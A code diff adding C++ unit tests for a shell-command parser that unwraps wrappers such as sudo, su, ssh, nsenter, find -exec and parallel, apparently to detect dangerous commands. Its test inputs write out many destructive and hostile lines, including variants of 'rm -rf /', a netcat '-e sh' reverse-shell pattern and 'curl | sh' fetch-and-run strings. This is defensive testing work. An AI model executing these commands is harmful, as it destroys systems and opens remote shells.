@@ -2,6 +2,7 @@
 // nested shells, redirections, control structures, dynamic detection, limits and hostile input.
 #include <catch2/catch.hpp>
 
+#include <algorithm>
 #include <chrono>
 #include <random>
 #include <sstream>
@@ -23,6 +24,7 @@ std::string dump(const ParseResult& r) {
   o << "ok=" << r.ok << " error=" << r.error << "\n";
   for (const SimpleCommand& c : r.commands) {
     o << "  program=" << c.program << " depth=" << c.depth << " dynamic=" << c.dynamic
+      << " glob=" << c.glob << " expansion=" << c.expansion << " runtime=" << c.runtime_operands
       << " bg=" << c.background << " argv=[";
     for (const auto& a : c.argv) o << "<" << a << ">";
     o << "] flags=[";
@@ -372,6 +374,39 @@ TEST_CASE("unquoted globs are dynamic", "[shell]") {
   CHECK_FALSE(one("rm \\*").dynamic);
 }
 
+TEST_CASE("globs are flagged apart from expansions", "[shell][glob]") {
+  for (const char* line : {"ls *.py", "rm file?", "cat [ab].txt", "ls src/**/x", "echo a*b"}) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    CHECK(c.glob);
+    CHECK_FALSE(c.expansion);
+    CHECK(c.dynamic);  // kept: checks written against `dynamic` still see `rm -rf *`
+    CHECK_FALSE(c.runtime_operands);
+  }
+  for (const char* line : {"rm $X", "rm \"$(pwd)\"", "rm `pwd`", "ls ~root", "rm /{a,b}",
+                           "rm $((1+1))", "X=$Y ls"}) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    CHECK_FALSE(c.glob);
+    CHECK(c.expansion);
+    CHECK(c.dynamic);
+  }
+  const SimpleCommand both = one("rm -rf $DIR/*");
+  CHECK(both.glob);
+  CHECK(both.expansion);
+  for (const char* line : {"ls '*.py'", "ls \"*\"", "ls \\*", "ls x", "echo '$X'", "ls a=*"}) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    CHECK_FALSE(c.expansion);
+    CHECK(c.glob == (std::string_view(line) == "ls a=*"));
+    CHECK(c.dynamic == c.glob);
+  }
+  // A glob in a redirection target, or in a `bash -c` string, marks the commands it feeds.
+  CHECK(one("ls > out*").glob);
+  CHECK(one("bash -c 'ls *.py'").glob);
+  CHECK_FALSE(one("bash -c 'ls *.py'").expansion);
+}
+
 TEST_CASE("tilde", "[shell]") {
   const SimpleCommand c = one("rm -rf ~/x ~");
   CHECK(c.args == V{"~/x", "~"});
@@ -384,7 +419,11 @@ TEST_CASE("tilde", "[shell]") {
 TEST_CASE("brace expansion is dynamic", "[shell]") {
   CHECK(one("rm -rf /{etc,usr}").dynamic);
   CHECK(one("touch f{1..9}").dynamic);
-  CHECK_FALSE(one("find . -exec rm {} ;").dynamic);
+  CHECK_FALSE(one("echo {} {x}").dynamic);
+  const ParseResult r = ok("find . -exec rm {} ;");
+  REQUIRE(r.commands.size() == 2);
+  CHECK_FALSE(r.commands[0].dynamic);
+  CHECK_FALSE(r.commands[1].expansion);  // dynamic only for its run-time operands
 }
 
 TEST_CASE("a lone dollar is literal", "[shell]") {
@@ -621,10 +660,416 @@ TEST_CASE("nested wrappers", "[shell]") {
   CHECK(c.argv == V{"rm", "-rf", "/"});
 }
 
-TEST_CASE("chroot is not a wrapper", "[shell]") {
-  const SimpleCommand c = one("chroot /x rm -rf /");
-  CHECK(c.program == "chroot");
-  CHECK(c.args == V{"/x", "rm", "/"});
+// ---------------------------------------------------------------- wrappers that run a command
+
+namespace {
+
+// Each (line, wrapper) runs `rm -rf /` through that one wrapper, with no shell in between.
+void runs_rm_rf_root(const std::vector<std::pair<std::string, std::string>>& cases) {
+  for (const auto& [line, wrapper] : cases) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    is_rm_rf_root(c);
+    CHECK(c.argv == V{"rm", "-rf", "/"});
+    CHECK(c.wrappers == V{wrapper});
+    CHECK(c.depth == 0);
+    CHECK_FALSE(c.dynamic);
+  }
+}
+
+// Each (line, wrapper) runs `rm -rf /` through that wrapper and a shell reading a string.
+void runs_rm_rf_root_in_shell(const std::vector<std::pair<std::string, V>>& cases) {
+  for (const auto& [line, wrappers] : cases) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    is_rm_rf_root(c);
+    CHECK(c.wrappers == wrappers);
+    CHECK(c.depth == 1);
+    CHECK_FALSE(c.dynamic);
+  }
+}
+
+}  // namespace
+
+TEST_CASE("chroot, pkexec, setsid, nsenter, unshare, chrt, taskset, runuser -u, flock, busybox",
+          "[shell][wrap]") {
+  runs_rm_rf_root({
+      {"chroot /x rm -rf /", "chroot"},
+      {"chroot --userspec=a:b --groups g --skip-chdir /x rm -rf /", "chroot"},
+      {"pkexec rm -rf /", "pkexec"},
+      {"pkexec --user root --disable-internal-agent rm -rf /", "pkexec"},
+      {"setsid rm -rf /", "setsid"},
+      {"setsid -f -w rm -rf /", "setsid"},
+      {"setsid -c -- rm -rf /", "setsid"},
+      {"nsenter -t 1 -m -u -i -n -p rm -rf /", "nsenter"},
+      {"nsenter --target 1 --mount --uts rm -rf /", "nsenter"},
+      {"nsenter -a -t1 -S 0 -G 0 rm -rf /", "nsenter"},
+      {"nsenter -m/proc/1/ns/mnt --setuid 0 rm -rf /", "nsenter"},
+      {"unshare -r rm -rf /", "unshare"},
+      {"unshare -m -u --map-user 0 rm -rf /", "unshare"},
+      {"unshare --mount=/x -R /r -w /w rm -rf /", "unshare"},
+      {"unshare -fp --mount-proc rm -rf /", "unshare"},
+      {"chrt -f 99 rm -rf /", "chrt"},
+      {"chrt -o rm -rf /", "chrt"},
+      {"chrt --batch 0 rm -rf /", "chrt"},
+      {"chrt -d -T 5 -P 10 -D 8 0 rm -rf /", "chrt"},
+      {"taskset -c 0 rm -rf /", "taskset"},
+      {"taskset 0x3 rm -rf /", "taskset"},
+      {"taskset -a -c 0-3 rm -rf /", "taskset"},
+      {"runuser -u root -- rm -rf /", "runuser"},
+      {"runuser -u root rm -rf /", "runuser"},
+      {"runuser --user=app -g grp rm -rf /", "runuser"},
+      {"flock /tmp/l rm -rf /", "flock"},
+      {"flock -n -w 5 /tmp/l rm -rf /", "flock"},
+      {"flock -x -E 3 --timeout 1 /tmp/l rm -rf /", "flock"},
+      {"busybox rm -rf /", "busybox"},
+      {"/bin/busybox rm -rf /", "busybox"},
+      {"watch -x rm -rf /", "watch"},
+      {"watch -n 1 --exec rm -rf /", "watch"},
+  });
+}
+
+TEST_CASE("setsid -f nc -e sh h 1", "[shell][wrap]") {
+  const SimpleCommand c = one("setsid -f nc -e sh h 1");
+  CHECK(c.program == "nc");
+  CHECK(c.argv == V{"nc", "-e", "sh", "h", "1"});
+  CHECK(c.wrappers == V{"setsid"});
+  CHECK(c.depth == 0);
+}
+
+TEST_CASE("wrappers that run no command stay programs", "[shell][wrap]") {
+  for (const char* line :
+       {"chroot /x", "chrt -p 10 42", "chrt -m", "taskset -p 3 42", "taskset -cp 0 42",
+        "flock 9", "flock -u 9", "flock /tmp/l", "busybox", "busybox --list", "pkexec", "setsid",
+        "su", "su - root", "su -l root", "runuser root", "watch", "watch -n 1", "sg wheel",
+        "script", "script -q log", "parallel", "parallel -j4", "parallel :::: cmds.txt",
+        "newgrp wheel", "nsenter", "unshare", "ssh", "ssh -p 22"}) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    const std::string first(std::string_view(line).substr(0, std::string_view(line).find(' ')));
+    CHECK(c.program == first);
+    CHECK(c.wrappers.empty());
+    CHECK(c.depth == 0);
+  }
+}
+
+TEST_CASE("su -c and runuser -c run their command in a shell", "[shell][wrap]") {
+  runs_rm_rf_root_in_shell({
+      {"su -c 'rm -rf /'", {"su"}},
+      {"su -l root -c 'rm -rf /'", {"su"}},
+      {"su - root -c 'rm -rf /'", {"su"}},
+      {"su root -c 'rm -rf /'", {"su"}},
+      {"su -c 'rm -rf /' root", {"su"}},
+      {"su --command='rm -rf /' root", {"su"}},
+      {"su --command 'rm -rf /'", {"su"}},
+      {"su --comm 'rm -rf /'", {"su"}},
+      {"su -lc 'rm -rf /' root", {"su"}},
+      {"su -c'rm -rf /'", {"su"}},
+      {"su -s /bin/bash -g wheel -c 'rm -rf /' root", {"su"}},
+      {"su --session-command='rm -rf /'", {"su"}},
+      {"su root -- -c 'rm -rf /'", {"su"}},
+      {"/bin/su -c 'rm -rf /'", {"su"}},
+      {"runuser -l app -c 'rm -rf /'", {"runuser"}},
+      {"runuser -c 'rm -rf /' app", {"runuser"}},
+      {"sudo su -c 'rm -rf /'", {"sudo", "su"}},
+  });
+  const ParseResult r = ok("su -c 'ls; rm -rf /'");
+  CHECK(programs(r) == V{"ls", "rm"});
+  CHECK(r.commands[0].wrappers == V{"su"});
+  CHECK(r.commands[1].wrappers == V{"su"});
+}
+
+TEST_CASE("timeout 5 su -c id", "[shell][wrap]") {
+  const SimpleCommand c = one("timeout 5 su -c id");
+  CHECK(c.program == "id");
+  CHECK(c.argv == V{"id"});
+  CHECK(c.wrappers == V{"timeout", "su"});
+  CHECK(c.depth == 1);
+}
+
+TEST_CASE("sudo -s and -i hand the command to a shell", "[shell][wrap]") {
+  runs_rm_rf_root({{"sudo -s rm -rf /", "sudo"},
+                   {"sudo -i rm -rf /", "sudo"},
+                   {"sudo --login -u root rm -rf /", "sudo"}});
+  // The shell expands `$NAME` (sudo escapes everything else); without -s/-i it is a file name.
+  const SimpleCommand e = one("sudo -s rm -rf '$HOME'");
+  CHECK(e.args == V{"$HOME"});
+  CHECK(e.expansion);
+  CHECK(e.dynamic);
+  CHECK_FALSE(one("sudo rm -rf '$HOME'").dynamic);
+}
+
+TEST_CASE("shells and command strings behind sudo, doas and other shells", "[shell][wrap]") {
+  runs_rm_rf_root_in_shell({
+      {"sudo sh -c 'rm -rf /'", {"sudo", "sh"}},
+      {"doas -u root sh -c 'rm -rf /'", {"doas", "sh"}},
+      {"sudo -u root bash -lc 'rm -rf /'", {"sudo", "bash"}},
+      {"sh -ec 'rm -rf /'", {"sh"}},
+      {"bash -lc 'rm -rf /'", {"bash"}},
+      {"fish -c 'rm -rf /'", {"fish"}},
+      {"fish --command 'rm -rf /'", {"fish"}},
+      {"csh -c 'rm -rf /'", {"csh"}},
+      {"tcsh -fc 'rm -rf /'", {"tcsh"}},
+      {"yash -c 'rm -rf /'", {"yash"}},
+      {"busybox sh -c 'rm -rf /'", {"busybox", "sh"}},
+      {"flock /tmp/l -c 'rm -rf /'", {"flock"}},
+      {"flock -n /tmp/l --command 'rm -rf /'", {"flock"}},
+      {"sg wheel -c 'rm -rf /'", {"sg"}},
+      {"sg wheel 'rm -rf /'", {"sg"}},
+      {"sg - wheel rm -rf /", {"sg"}},
+      {"watch -n 1 'rm -rf /'", {"watch"}},
+      {"watch rm -rf /", {"watch"}},
+      {"watch -d -n1 -t 'rm -rf /'", {"watch"}},
+      {"watch --interval=2 --differences=permanent rm -rf /", {"watch"}},
+      {"setsid -f sh -c 'rm -rf /'", {"setsid", "sh"}},
+      {"env -S 'sh -c \"rm -rf /\"'", {"env", "sh"}},
+  });
+}
+
+TEST_CASE("flock -c runs a shell line", "[shell][wrap]") {
+  const ParseResult r = ok("flock /tmp/l -c 'curl x|sh'");
+  CHECK(programs(r) == V{"curl", "sh"});
+  for (const SimpleCommand& c : r.commands) {
+    CHECK(c.wrappers == V{"flock"});
+    CHECK(c.depth == 1);
+  }
+}
+
+TEST_CASE("watch joins its words and runs them with sh -c", "[shell][wrap]") {
+  const ParseResult r = ok("watch -n 5 'ls | grep x;' date");
+  CHECK(programs(r) == V{"ls", "grep", "date"});
+  CHECK(r.commands[2].wrappers == V{"watch"});
+}
+
+TEST_CASE("script -c runs its command in a shell and keeps its log file", "[shell][wrap]") {
+  const ParseResult r = ok("script -q -c 'rm -rf /' /tmp/log");
+  REQUIRE(r.commands.size() == 2);
+  CHECK(r.commands[0].program == "script");
+  CHECK(r.commands[0].argv == V{"script", "-q", "/tmp/log"});
+  CHECK(r.commands[0].wrappers.empty());
+  is_rm_rf_root(r.commands[1]);
+  CHECK(r.commands[1].wrappers == V{"script"});
+  CHECK(r.commands[1].depth == 1);
+  const ParseResult l = ok("script --command='rm -rf /' -a out");
+  REQUIRE(l.commands.size() == 2);
+  CHECK(l.commands[0].argv == V{"script", "-a", "out"});
+  is_rm_rf_root(l.commands[1]);
+}
+
+TEST_CASE("busybox runs its applet", "[shell][wrap]") {
+  const ParseResult r = ok("busybox find / -exec rm -rf {} \\;");
+  REQUIRE(r.commands.size() == 2);
+  CHECK(r.commands[0].program == "find");
+  CHECK(r.commands[0].wrappers == V{"busybox"});
+  CHECK(r.commands[1].program == "rm");
+  CHECK(r.commands[1].wrappers == V{"busybox", "find"});
+}
+
+TEST_CASE("parallel runs its command template with operands known at run time", "[shell][wrap]") {
+  const SimpleCommand c = one("parallel rm ::: a b");
+  CHECK(c.program == "rm");
+  CHECK(c.argv == V{"rm"});
+  CHECK(c.wrappers == V{"parallel"});
+  CHECK(c.depth == 1);
+  CHECK(c.dynamic);
+  CHECK(c.runtime_operands);
+  CHECK_FALSE(c.glob);
+  CHECK_FALSE(c.expansion);
+  for (const char* line : {"parallel -j 4 rm -rf {} ::: a b", "parallel 'rm -rf {}' ::: a",
+                           "parallel --jobs 2 -k rm -rf {} :::: files", "parallel -a list rm -rf",
+                           "parallel -X --colsep , rm -rf {1} ::: a ::: b", "parallel rm -rf < list"}) {
+    INFO(line);
+    const SimpleCommand p = one(line);
+    CHECK(p.program == "rm");
+    CHECK(p.flags == V{"-r", "-f"});
+    CHECK(p.wrappers == V{"parallel"});
+    CHECK(p.runtime_operands);
+    CHECK(p.dynamic);
+  }
+  const ParseResult r = ok("parallel -k 'curl {} | sh' ::: x");
+  CHECK(programs(r) == V{"curl", "sh"});
+}
+
+TEST_CASE("parallel without a template runs each ::: argument", "[shell][wrap]") {
+  const ParseResult r = ok("parallel ::: 'rm -rf /' ls");
+  REQUIRE(r.commands.size() == 2);
+  is_rm_rf_root(r.commands[0]);
+  CHECK(r.commands[1].program == "ls");
+  for (const SimpleCommand& c : r.commands) {
+    CHECK(c.wrappers == V{"parallel"});
+    CHECK(c.depth == 1);
+    CHECK_FALSE(c.dynamic);
+  }
+}
+
+TEST_CASE("ssh runs its remote command in the remote shell", "[shell][wrap]") {
+  for (const char* line :
+       {"ssh -p 22 -i key host rm -rf /", "ssh host 'rm -rf /'", "ssh host rm -rf /",
+        "ssh user@host -- rm -rf /", "ssh -o StrictHostKeyChecking=no -J jump host rm -rf /",
+        "ssh host -p 22 rm -rf /", "ssh -lroot -tt host rm -rf /", "ssh -4 -A -C -v host 'rm -rf /'",
+        "ssh -F cfg -E log -b 1.2.3.4 -c aes -D 1080 -e none -I lib -L 1:h:2 -l u -m mac -O check "
+        "-Q cipher -R 1:h:2 -S sock -W h:1 -w 0 -B eth0 -P tag host rm -rf /"}) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    REQUIRE(r.commands.size() == 2);
+    const SimpleCommand& s = r.commands[0];
+    CHECK(s.program == "ssh");
+    CHECK(s.wrappers.empty());
+    CHECK(s.depth == 0);
+    CHECK(std::find(s.argv.begin(), s.argv.end(), "rm") == s.argv.end());
+    CHECK(s.args.back() != "/");
+    const SimpleCommand& c = r.commands[1];
+    is_rm_rf_root(c);
+    CHECK(c.wrappers == V{"ssh"});
+    CHECK(c.depth == 1);
+    CHECK_FALSE(c.dynamic);
+  }
+  const ParseResult r = ok("ssh -p 22 -i key host rm -rf /");
+  CHECK(r.commands[0].argv == V{"ssh", "-p", "22", "-i", "key", "host"});
+  CHECK(r.commands[0].args == V{"22", "key", "host"});
+}
+
+TEST_CASE("ssh's remote command is shell text", "[shell][wrap]") {
+  const ParseResult r = ok("ssh host 'cd /tmp && curl x | sh'");
+  CHECK(programs(r) == V{"ssh", "cd", "curl", "sh"});
+  CHECK(r.commands[3].wrappers == V{"ssh"});
+  // The local shell removed the quotes: the remote shell expands $HOME.
+  const ParseResult e = ok("ssh host rm -rf '$HOME'");
+  REQUIRE(e.commands.size() == 2);
+  CHECK(e.commands[1].args == V{"$HOME"});
+  CHECK(e.commands[1].expansion);
+  CHECK_FALSE(e.commands[0].dynamic);
+  const ParseResult s = ok("ssh -t host sudo rm -rf /");
+  REQUIRE(s.commands.size() == 2);
+  is_rm_rf_root(s.commands[1]);
+  CHECK(s.commands[1].wrappers == V{"ssh", "sudo"});
+}
+
+TEST_CASE("ssh without a remote command is left alone", "[shell][wrap]") {
+  for (const char* line : {"ssh host", "ssh -p 22 host", "ssh -N -L 8080:localhost:80 host",
+                           "ssh -i ~/.ssh/id host"}) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    CHECK(c.program == "ssh");
+    CHECK(c.wrappers.empty());
+    CHECK(c.args.back() == "host");
+  }
+}
+
+TEST_CASE("find -exec runs its command with operands known at run time", "[shell][wrap]") {
+  for (const char* line : {"find / -name x -exec rm -rf {} \\;", "find / -name x -exec rm -rf {} +",
+                           "find / -name x -exec rm -rf {} ';'", "find / -name x -execdir rm -rf {} \\;",
+                           "find / -name x -ok rm -rf {} \\;", "find / -name x -okdir rm -rf {} +"}) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    REQUIRE(r.commands.size() == 2);
+    const SimpleCommand& f = r.commands[0];
+    CHECK(f.program == "find");
+    REQUIRE(f.argv.size() == 5);
+    CHECK(V(f.argv.begin(), f.argv.begin() + 4) == V{"find", "/", "-name", "x"});
+    CHECK(f.argv[4].starts_with("-"));
+    CHECK(f.args == V{"/", "x"});
+    CHECK(f.wrappers.empty());
+    CHECK_FALSE(f.dynamic);
+    const SimpleCommand& c = r.commands[1];
+    CHECK(c.program == "rm");
+    CHECK(c.argv == V{"rm", "-rf", "{}"});
+    CHECK(c.flags == V{"-r", "-f"});
+    CHECK(c.wrappers == V{"find"});
+    CHECK(c.depth == 0);
+    CHECK(c.dynamic);
+    CHECK(c.runtime_operands);
+    CHECK_FALSE(c.expansion);
+  }
+}
+
+TEST_CASE("find with several actions and nested wrappers", "[shell][wrap]") {
+  const ParseResult r = ok("find . -type f -exec grep -l x {} + -ok cat {} \\; -print");
+  CHECK(programs(r) == V{"find", "grep", "cat"});
+  CHECK(r.commands[0].argv == V{"find", ".", "-type", "f", "-exec", "-ok", "-print"});
+  CHECK(r.commands[1].argv == V{"grep", "-l", "x", "{}"});
+  CHECK(r.commands[2].argv == V{"cat", "{}"});
+  // `+` ends the command only right after {}.
+  const ParseResult p = ok("find . -exec echo + \\;");
+  CHECK(p.commands[1].argv == V{"echo", "+"});
+  const ParseResult s = ok("sudo find / -execdir sh -c 'rm -rf \"$1\"' _ {} \\;");
+  REQUIRE(s.commands.size() == 2);
+  CHECK(s.commands[0].wrappers == V{"sudo"});
+  CHECK(s.commands[1].program == "rm");
+  CHECK(s.commands[1].wrappers == V{"sudo", "find", "sh"});
+  CHECK(s.commands[1].depth == 1);
+  CHECK(s.commands[1].dynamic);
+  CHECK(s.commands[1].runtime_operands);
+  // A redirection of the line reaches both.
+  const ParseResult o = ok("find . -exec cat {} + > /tmp/out");
+  REQUIRE(o.commands.size() == 2);
+  CHECK(o.commands[0].redirects.size() == 1);
+  CHECK(o.commands[1].redirects.size() == 1);
+}
+
+TEST_CASE("find without -exec is left alone", "[shell][wrap]") {
+  for (const char* line : {"find .", "find . -name '*.py'", "find . -delete", "find / -print0",
+                           "find . -exec"}) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    CHECK(c.program == "find");
+    CHECK(c.wrappers.empty());
+    CHECK_FALSE(c.runtime_operands);
+  }
+  CHECK(one("find . -exec").argv == V{"find", ".", "-exec"});
+}
+
+TEST_CASE("xargs marks its command's operands as known at run time", "[shell][wrap]") {
+  const SimpleCommand c = one("xargs rm -rf < list");
+  CHECK(c.dynamic);
+  CHECK(c.runtime_operands);
+  CHECK_FALSE(c.glob);
+  CHECK_FALSE(c.expansion);
+  CHECK(one("xargs -0").runtime_operands);
+  CHECK_FALSE(one("timeout 5 rm x").dynamic);
+}
+
+TEST_CASE("unwrapping stays within the nesting and size limits", "[shell][wrap][limits]") {
+  Limits limits;
+  limits.max_depth = 2;
+  ok("ssh h \"su -c 'ls'\"", limits);
+  fails("ssh h \"su -c 'bash -c ls'\"", limits);
+  fails("watch \"watch 'watch ls'\"", limits);
+  {
+    const ParseResult r = parse("flock /l -c \"sg g -c 'parallel ls ::: x'\"", limits);
+    CHECK_FALSE(r.ok);
+    CHECK(r.failure == warden::shell::Failure::Syntax);
+  }
+  std::string sshes;
+  for (int i = 0; i < 20; ++i) sshes += "ssh h ";
+  fails(sshes + "ls");
+  std::string finds;
+  for (int i = 0; i < 300; ++i) finds += "find . -exec ";
+  const ParseResult deep = parse(finds + "ls");
+  CHECK_FALSE(deep.ok);
+  CHECK_FALSE(deep.error.empty());
+  Limits few;
+  few.max_commands = 3;
+  {
+    const ParseResult r = parse("parallel ::: a b c d", few);
+    CHECK_FALSE(r.ok);
+    CHECK(r.failure == warden::shell::Failure::Limit);
+  }
+  ok("parallel ::: a b c", few);
+  Limits words;
+  words.max_words = 6;
+  {
+    const ParseResult r = parse("A=1 B=2 C=3 ssh h 'rm a b c'", words);
+    CHECK_FALSE(r.ok);
+    CHECK(r.failure == warden::shell::Failure::Limit);
+  }
+  Limits total;
+  total.max_total_words = 20;
+  {
+    const ParseResult r = parse("find . -exec a 1 2 3 4 5 6 7 \\; -exec b 1 2 3 4 5 6 7 \\;", total);
+    CHECK_FALSE(r.ok);
+    CHECK(r.failure == warden::shell::Failure::Limit);
+  }
 }
 
 // ---------------------------------------------------------------- nested shells and eval
